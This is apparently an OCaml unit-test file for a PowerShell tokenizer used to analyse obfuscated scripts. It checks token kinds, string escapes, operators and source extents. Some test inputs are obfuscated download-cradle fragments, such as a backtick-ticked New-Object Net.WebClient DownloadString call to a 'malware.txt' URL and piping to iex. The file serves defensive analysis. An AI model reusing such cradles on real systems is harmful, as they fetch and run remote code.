(* Tests for the mode-aware PowerShell tokenizer. *)

module T = Pslex.Token

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let toks src = Pslex.Lexer.tokenize_exn src

let kinds src =
  List.filter_map
    (fun t ->
      match t.T.kind with
      | T.New_line -> None
      | k -> Some (T.kind_name k))
    (toks src)

let contents src =
  List.filter_map
    (fun t -> if t.T.kind = T.New_line then None else Some t.T.content)
    (toks src)

let check_kinds name src expected = Alcotest.(check (list string)) name expected (kinds src)

let test_command_and_args () =
  check_kinds "simple" "write-host hello"
    [ "Command"; "CommandArgument" ];
  check_kinds "parameter" "cmd -Name value"
    [ "Command"; "CommandParameter"; "CommandArgument" ];
  check_kinds "param with colon" "cmd -Name:value"
    [ "Command"; "CommandParameter"; "CommandArgument" ]

let test_pipeline_resets_context () =
  check_kinds "pipe" "'x' | measure-object"
    [ "StringSingle"; "Operator"; "Command" ]

let test_strings () =
  let t = List.hd (toks "'it''s'") in
  check_s "single quote escape" "it's" t.T.content;
  let t = List.hd (toks "\"a`tb\"") in
  check_s "backtick tab" "a\tb" t.T.content;
  let t = List.hd (toks "\"say \"\"hi\"\"\"") in
  check_s "double double quote" "say \"hi\"" t.T.content

(* Single-quoted strings without a '' escape are cut out of the source in
   one piece; with one they go through the character loop.  The expected
   tokens and errors are the character loop's: (kind, content, text,
   start, stop) of every single-quoted token, or (message, position). *)
let single_quoted src =
  match Pslex.Lexer.tokenize src with
  | Error e -> Error (e.Pslex.Lexer.message, e.Pslex.Lexer.position)
  | Ok toks ->
      Ok
        (List.filter_map
           (fun t ->
             if t.T.kind = T.String_single then
               let e = t.T.extent in
               Some
                 ( (T.kind_name t.T.kind, t.T.content),
                   (t.T.text, (e.Pscommon.Extent.start, e.Pscommon.Extent.stop))
                 )
             else None)
           toks)

let test_single_quoted_tokens () =
  let token = Alcotest.(pair (pair string string) (pair string (pair int int))) in
  let check name src expected =
    Alcotest.(check (result (list token) (pair string int)))
      name expected (single_quoted src)
  in
  let s content text start stop =
    (("StringSingle", content), (text, (start, stop)))
  in
  check "without escape" "'abc' + 'de'"
    (Ok [ s "abc" "'abc'" 0 5; s "de" "'de'" 8 12 ]);
  check "with escape" "'it''s' + 'a''''b'"
    (Ok [ s "it's" "'it''s'" 0 7; s "a''b" "'a''''b'" 10 18 ]);
  check "escape then plain" "('x''' + 'y')"
    (Ok [ s "x'" "'x'''" 1 6; s "y" "'y'" 9 12 ]);
  check "empty" "'' + ''''" (Ok [ s "" "''" 0 2; s "'" "''''" 5 9 ]);
  check "at end of input" "$a = 'tail'" (Ok [ s "tail" "'tail'" 5 11 ]);
  check "escape at end of input" "$a = 'x'''" (Ok [ s "x'" "'x'''" 5 10 ]);
  check "newline inside" "'a\nb'" (Ok [ s "a\nb" "'a\nb'" 0 5 ]);
  check "unterminated" "$a = 'abc"
    (Error ("unterminated single-quoted string", 5));
  check "unterminated after escape" "'ab''"
    (Error ("unterminated single-quoted string", 0));
  check "lone quote at end" "1 + '"
    (Error ("unterminated single-quoted string", 4))

let test_here_strings () =
  let src = "@'\nline1\nline2\n'@" in
  let t = List.hd (toks src) in
  check_s "here content" "line1\nline2" t.T.content;
  check_b "kind" true (t.T.kind = T.String_single_here)

let test_ticked_command () =
  let t = List.hd (toks "iN`v`oKe-eXpReSsIoN") in
  check_b "kind command" true (t.T.kind = T.Command);
  check_s "ticks removed in content" "iNvoKe-eXpReSsIoN" t.T.content;
  check_s "text keeps ticks" "iN`v`oKe-eXpReSsIoN" t.T.text

let test_backtick_literal_escape_outside_strings () =
  (* `b outside a double-quoted string is literal 'b', not backspace *)
  let t = List.hd (toks "we`bclient") in
  check_s "literal escape" "webclient" t.T.content

let test_variables () =
  check_s "plain" "x" (List.hd (toks "$x")).T.content;
  check_s "scoped env" "env:comspec" (List.hd (toks "$env:comspec")).T.content;
  check_s "braced" "a b" (List.hd (toks "${a b}")).T.content;
  check_s "underscore" "_" (List.hd (toks "$_")).T.content;
  check_b "splat kind" true ((List.hd (toks "@params")).T.kind = T.Splat_variable)

let test_numbers () =
  check_s "int" "42" (List.hd (toks "42")).T.content;
  check_s "hex" "0x4B" (List.hd (toks "0x4B")).T.content;
  check_s "float" "3.14" (List.hd (toks "3.14")).T.content;
  check_s "kb suffix" "4kb" (List.hd (toks "4kb")).T.content;
  check_b "number kind" true ((List.hd (toks "42")).T.kind = T.Number)

let test_type_literals () =
  let t = List.hd (toks "[System.Text.Encoding]") in
  check_b "type kind" true (t.T.kind = T.Type_name);
  check_s "inner name" "System.Text.Encoding" t.T.content;
  let t = List.hd (toks "[char[]]") in
  check_s "array type" "char[]" t.T.content

let test_index_vs_type () =
  (* after a value, '[' is indexing *)
  check_kinds "indexing" "$a[0]"
    [ "Variable"; "IndexStart"; "Number"; "IndexEnd" ];
  (* chained casts keep being types *)
  check_kinds "cast chain" "[string][char]39"
    [ "Type"; "Type"; "Number" ]

let test_member_access () =
  check_kinds "instance member" "$a.Length"
    [ "Variable"; "Operator"; "Member" ];
  check_kinds "static member" "[Convert]::FromBase64String"
    [ "Type"; "Operator"; "Member" ];
  check_kinds "member with space after dot" "$a. Length"
    [ "Variable"; "Operator"; "Member" ]

let test_dash_operators () =
  check_kinds "format" {|"{0}" -f 'a'|} [ "StringDouble"; "Operator"; "StringSingle" ];
  check_s "case normalised" "-bxor" (List.nth (toks "$_ -BxOr 1") 1).T.content;
  (* in argument position a dash-word is a parameter *)
  check_kinds "param not op" "cmd -join" [ "Command"; "CommandParameter" ]

let test_keywords () =
  check_kinds "if keyword" "if ($a) { 1 }"
    [ "Keyword"; "GroupStart"; "Variable"; "GroupEnd"; "GroupStart"; "Number"; "GroupEnd" ];
  (* keywords only at command position *)
  check_kinds "if as argument" "write-host if" [ "Command"; "CommandArgument" ]

let test_assignment_rhs_is_command () =
  check_kinds "rhs command" "$x = write-host hello"
    [ "Variable"; "Operator"; "Command"; "CommandArgument" ]

let test_percent_alias () =
  check_kinds "foreach alias" "1 | % { $_ }"
    [ "Number"; "Operator"; "Command"; "GroupStart"; "Variable"; "GroupEnd" ]

let test_range_operator () =
  check_kinds "range" "1..5" [ "Number"; "Operator"; "Number" ];
  check_kinds "negative range" "'x'[-1..-5]"
    [ "StringSingle"; "IndexStart"; "Operator"; "Number"; "Operator"; "Operator"; "Number"; "IndexEnd" ]

let test_groups () =
  check_kinds "subexpr" "$(1)" [ "GroupStart"; "Number"; "GroupEnd" ];
  check_kinds "array expr" "@(1)" [ "GroupStart"; "Number"; "GroupEnd" ];
  check_kinds "hash" "@{a=1}"
    [ "GroupStart"; "Member"; "Operator"; "Number"; "GroupEnd" ]

let test_comments () =
  check_kinds "line comment" "1 # rest" [ "Number"; "Comment" ];
  check_kinds "block comment" "<# x #> 2" [ "Comment"; "Number" ];
  (* '#' inside a bareword does not start a comment *)
  check_s "hash in word" "a#b" (List.nth (contents "echo a#b") 1)

let test_line_continuation () =
  check_kinds "continuation" "1 `\n+ 2"
    [ "Number"; "LineContinuation"; "Operator"; "Number" ]

let test_extents_cover_source () =
  let src = "(nEw-oBjEcT Net.WebClient).downloadstring('http://x')" in
  List.iter
    (fun t ->
      check_s "text = extent slice" t.T.text (Pscommon.Extent.text src t.T.extent))
    (toks src)

let test_call_operators () =
  check_kinds "amp string" "& 'iex' 'arg'"
    [ "Operator"; "StringSingle"; "StringSingle" ];
  check_kinds "dot paren" ". ($x) 'arg'"
    [ "Operator"; "GroupStart"; "Variable"; "GroupEnd"; "StringSingle" ]

let test_errors () =
  List.iter
    (fun src ->
      check_b ("rejects " ^ src) true
        (match Pslex.Lexer.tokenize src with Error _ -> true | Ok _ -> false))
    [ "'unterminated"; "\"unterminated"; "@'\nnoend"; "<# no end" ]

let test_aliases_table () =
  Alcotest.(check (option string)) "iex" (Some "Invoke-Expression")
    (Pslex.Aliases.resolve "IEX");
  Alcotest.(check (option string)) "gci" (Some "Get-ChildItem")
    (Pslex.Aliases.resolve "gci");
  Alcotest.(check (option string)) "percent" (Some "ForEach-Object")
    (Pslex.Aliases.resolve "%");
  Alcotest.(check (option string)) "not alias" None (Pslex.Aliases.resolve "write-host");
  check_b "aliases_of" true (List.mem "iex" (Pslex.Aliases.aliases_of "invoke-expression"));
  Alcotest.(check (option string)) "canonical case" (Some "Invoke-Expression")
    (Pslex.Aliases.canonical_case "invoke-expression")

let test_keyword_table () =
  check_b "if" true (Pslex.Lexer.is_keyword "IF");
  check_b "not keyword" false (Pslex.Lexer.is_keyword "iex");
  check_i "dash ops nonempty" 1 (min 1 (List.length Pslex.Lexer.dash_operators))

(* listing 2 from the paper must tokenize *)
let test_paper_listing2 () =
  let src = "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')" in
  let cs = contents src in
  check_b "has command" true (List.mem "nEw-oBjECt" cs);
  check_b "has member" true (List.mem "DoWNlOaDsTrIng" cs)

let prop_tokens_reconstruct_source =
  (* concatenating token texts with original gaps reproduces the source *)
  QCheck.Test.make ~name:"lexer: extents tile the source" ~count:100
    (QCheck.make
       (QCheck.Gen.oneofl
          [ "write-host hello"; "$a = 1 + 2"; "('a'+'b') | iex";
            "[char]104"; "foreach ($x in 1..3) { $x }";
            "@{k='v'}; $env:temp" ]))
    (fun src ->
      match Pslex.Lexer.tokenize src with
      | Error _ -> false
      | Ok toks ->
          List.for_all
            (fun t -> Pscommon.Extent.text src t.T.extent = t.T.text)
            toks)

(* ---------- operator spelling table ---------- *)

(* Every token of [src] as "Kind content text start-stop;", or the error. *)
let render src =
  match Pslex.Lexer.tokenize src with
  | Error e ->
      Printf.sprintf "error %S at %d" e.Pslex.Lexer.message e.Pslex.Lexer.position
  | Ok toks ->
      String.concat " "
        (List.map
           (fun (t : T.t) ->
             Printf.sprintf "%s %s %s %d-%d;" (T.kind_name t.kind) t.content
               t.text t.extent.Pscommon.Extent.start
               t.extent.Pscommon.Extent.stop)
           toks)

(* Each multi-character operator and redirection at command start, in
   command arguments, in expression position and glued to a value, as the
   lexer that scanned a list of operator spellings left them. *)
let operator_table =
  [
    ( "2>&1",
      [ "Number 2 2 0-1; Operator > > 1-2; Operator & & 2-3; Number 1 1 3-4; Number 1 1 5-6;";
        "Command cmd cmd 0-3; Operator 2>&1 2>&1 4-8; CommandArgument x x 9-10;";
        "Variable x $x 0-2; Number 2 2 3-4; Operator > > 4-5; Operator & & 5-6; Number 1 1 6-7; Number 1 1 8-9;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Number 2 2 4-5; Operator > > 5-6; Operator & & 6-7; Number 11 11 7-9;" ] );
    ( "1>&2",
      [ "Number 1 1 0-1; Operator > > 1-2; Operator & & 2-3; Number 2 2 3-4; Number 1 1 5-6;";
        "Command cmd cmd 0-3; Operator 1>&2 1>&2 4-8; CommandArgument x x 9-10;";
        "Variable x $x 0-2; Number 1 1 3-4; Operator > > 4-5; Operator & & 5-6; Number 2 2 6-7; Number 1 1 8-9;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Number 1 1 4-5; Operator > > 5-6; Operator & & 6-7; Number 21 21 7-9;" ] );
    ( ">>",
      [ "Operator >> >> 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator >> >> 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Operator >> >> 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator >> >> 4-6; Number 1 1 6-7;" ] );
    ( ">",
      [ "Operator > > 0-1; Number 1 1 2-3;";
        "Command cmd cmd 0-3; Operator > > 4-5; CommandArgument x x 6-7;";
        "Variable x $x 0-2; Operator > > 3-4; Number 1 1 5-6;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator > > 4-5; Number 1 1 5-6;" ] );
    ( "<",
      [ "Operator < < 0-1; Number 1 1 2-3;";
        "Command cmd cmd 0-3; Operator < < 4-5; CommandArgument x x 6-7;";
        "Variable x $x 0-2; Operator < < 3-4; Number 1 1 5-6;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator < < 4-5; Number 1 1 5-6;" ] );
    ( "2>",
      [ "Number 2 2 0-1; Operator > > 1-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator 2> 2> 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Number 2 2 3-4; Operator > > 4-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Number 2 2 4-5; Operator > > 5-6; Number 1 1 6-7;" ] );
    ( "1>",
      [ "Number 1 1 0-1; Operator > > 1-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator 1> 1> 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Number 1 1 3-4; Operator > > 4-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Number 1 1 4-5; Operator > > 5-6; Number 1 1 6-7;" ] );
    ( "2>>",
      [ "Number 2 2 0-1; Operator >> >> 1-3; Number 1 1 4-5;";
        "Command cmd cmd 0-3; Operator 2>> 2>> 4-7; CommandArgument x x 8-9;";
        "Variable x $x 0-2; Number 2 2 3-4; Operator >> >> 4-6; Number 1 1 7-8;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Number 2 2 4-5; Operator >> >> 5-7; Number 1 1 7-8;" ] );
    ( "1>>",
      [ "Number 1 1 0-1; Operator >> >> 1-3; Number 1 1 4-5;";
        "Command cmd cmd 0-3; Operator 1>> 1>> 4-7; CommandArgument x x 8-9;";
        "Variable x $x 0-2; Number 1 1 3-4; Operator >> >> 4-6; Number 1 1 7-8;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Number 1 1 4-5; Operator >> >> 5-7; Number 1 1 7-8;" ] );
    ( "+=",
      [ "Operator += += 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator += += 4-6; Command x x 7-8;";
        "Variable x $x 0-2; Operator += += 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator += += 4-6; Number 1 1 6-7;" ] );
    ( "-=",
      [ "Operator -= -= 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator -= -= 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Operator -= -= 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator -= -= 4-6; Number 1 1 6-7;" ] );
    ( "*=",
      [ "Operator *= *= 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator *= *= 4-6; Command x x 7-8;";
        "Variable x $x 0-2; Operator *= *= 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator *= *= 4-6; Number 1 1 6-7;" ] );
    ( "/=",
      [ "Operator /= /= 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator /= /= 4-6; Command x x 7-8;";
        "Variable x $x 0-2; Operator /= /= 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator /= /= 4-6; Number 1 1 6-7;" ] );
    ( "%=",
      [ "Command % % 0-1; Operator = = 1-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator %= %= 4-6; Command x x 7-8;";
        "Variable x $x 0-2; Operator %= %= 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator %= %= 4-6; Number 1 1 6-7;" ] );
    ( "++",
      [ "Operator ++ ++ 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator ++ ++ 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Operator ++ ++ 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator ++ ++ 4-6; Number 1 1 6-7;" ] );
    ( "--",
      [ "Operator -- -- 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator -- -- 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Operator -- -- 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator -- -- 4-6; Number 1 1 6-7;" ] );
    ( "..",
      [ "Operator .. .. 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator .. .. 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Operator .. .. 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator .. .. 4-6; Number 1 1 6-7;" ] );
    ( "::",
      [ "Operator :: :: 0-2; Member 1 1 3-4;";
        "Command cmd cmd 0-3; Operator :: :: 4-6; Member x x 7-8;";
        "Variable x $x 0-2; Operator :: :: 3-5; Member 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator :: :: 4-6; Member 1 1 6-7;" ] );
    ( "&&",
      [ "Operator && && 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator && && 4-6; CommandArgument x x 7-8;";
        "Variable x $x 0-2; Operator && && 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator && && 4-6; Number 1 1 6-7;" ] );
    ( "||",
      [ "Operator || || 0-2; Number 1 1 3-4;";
        "Command cmd cmd 0-3; Operator || || 4-6; Command x x 7-8;";
        "Variable x $x 0-2; Operator || || 3-5; Number 1 1 6-7;";
        "GroupStart ( ( 0-1; Variable x $x 1-3; GroupEnd ) ) 3-4; Operator || || 4-6; Number 1 1 6-7;" ] );
  ]

let operator_sources op =
  [ op ^ " 1"; "cmd " ^ op ^ " x"; "$x " ^ op ^ " 1"; "($x)" ^ op ^ "1" ]

let test_operator_table () =
  List.iter
    (fun (op, expected) ->
      Alcotest.(check (list string)) op expected
        (List.map render (operator_sources op)))
    operator_table

(* Every dash operator in lower, upper, mixed and case-prefixed spellings,
   in expression position, in command arguments and at command start: an
   operator's content is its lowercase spelling, a parameter and a
   non-operator word keep theirs, and the text is always as written. *)
let mixed_case w =
  String.mapi
    (fun i c -> if i mod 2 = 0 then Char.uppercase_ascii c else c)
    w

let dash_spellings w =
  [ w; String.uppercase_ascii w; mixed_case w; "c" ^ w; "C" ^ mixed_case w;
    "i" ^ w; "I" ^ String.uppercase_ascii w ]

let test_dash_operator_spellings () =
  List.iter
    (fun w ->
      List.iter
        (fun sp ->
          let word = "-" ^ sp and n = String.length sp + 1 in
          let as_operand at =
            if List.mem (String.lowercase_ascii sp) Pslex.Lexer.dash_operators
            then
              Printf.sprintf "Operator %s %s %d-%d;"
                (String.lowercase_ascii word) word at (at + n)
            else Printf.sprintf "CommandArgument %s %s %d-%d;" word word at (at + n)
          in
          let src = "$x " ^ word ^ " 1" in
          check_s src
            (Printf.sprintf "Variable x $x 0-2; %s Number 1 1 %d-%d;"
               (as_operand 3) (n + 4) (n + 5))
            (render src);
          let src = "cmd " ^ word ^ " 1" in
          check_s src
            (Printf.sprintf
               "Command cmd cmd 0-3; CommandParameter %s %s 4-%d; Number 1 1 %d-%d;"
               word word (n + 4) (n + 5) (n + 6))
            (render src);
          let src = word ^ " 1" in
          check_s src
            (Printf.sprintf "%s Number 1 1 %d-%d;" (as_operand 0) (n + 1) (n + 2))
            (render src))
        (dash_spellings w))
    Pslex.Lexer.dash_operators

let suite =
  [
    ("command and args", `Quick, test_command_and_args);
    ("pipeline resets context", `Quick, test_pipeline_resets_context);
    ("strings", `Quick, test_strings);
    ("here-strings", `Quick, test_here_strings);
    ("ticked command", `Quick, test_ticked_command);
    ("backtick literal escape", `Quick, test_backtick_literal_escape_outside_strings);
    ("variables", `Quick, test_variables);
    ("numbers", `Quick, test_numbers);
    ("type literals", `Quick, test_type_literals);
    ("index vs type", `Quick, test_index_vs_type);
    ("member access", `Quick, test_member_access);
    ("dash operators", `Quick, test_dash_operators);
    ("keywords", `Quick, test_keywords);
    ("assignment rhs command", `Quick, test_assignment_rhs_is_command);
    ("percent alias", `Quick, test_percent_alias);
    ("range operator", `Quick, test_range_operator);
    ("groups", `Quick, test_groups);
    ("comments", `Quick, test_comments);
    ("line continuation", `Quick, test_line_continuation);
    ("extents cover source", `Quick, test_extents_cover_source);
    ("call operators", `Quick, test_call_operators);
    ("lex errors", `Quick, test_errors);
    ("single-quoted strings", `Quick, test_single_quoted_tokens);
    ("alias table", `Quick, test_aliases_table);
    ("keyword table", `Quick, test_keyword_table);
    ("paper listing 2", `Quick, test_paper_listing2);
    ("operator spelling table", `Quick, test_operator_table);
    ("dash operator spellings", `Quick, test_dash_operator_spellings);
    QCheck_alcotest.to_alcotest prop_tokens_reconstruct_source;
  ]
